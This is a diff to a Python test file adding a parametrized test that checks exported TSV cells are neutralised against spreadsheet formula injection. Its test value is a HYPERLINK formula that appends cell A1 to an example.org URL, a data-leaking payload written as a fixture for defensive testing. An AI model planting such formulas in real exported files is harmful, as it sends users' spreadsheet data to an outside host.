@@ -35,6 +35,16 @@ def test_what_is_written_is_accepted_by_the_next_run(tmp_path: Path) -> None:
     assert "stale" not in again.out
 
 
+@pytest.mark.parametrize("mark", ["=", "+", "-", "@"])
+def test_no_text_is_a_formula_to_a_spreadsheet(tmp_path: Path, mark: str) -> None:
+    text = f'{mark}HYPERLINK("https://example.org/?" & A1)'
+    known = ("check", (text,), (text, text))
+    path = tmp_path / "accepted.tsv"
+    path.write_text(accepted_table([accepted_row("news", known)]), "utf-8")
+    assert not [cell for cell in path.read_text("utf-8").splitlines()[1].split("\t") if cell.startswith(mark)]
+    assert known in read_accepted(str(path)).entries
+
+
 @pytest.mark.parametrize(
     ("rows", "status", "stale"),
     [
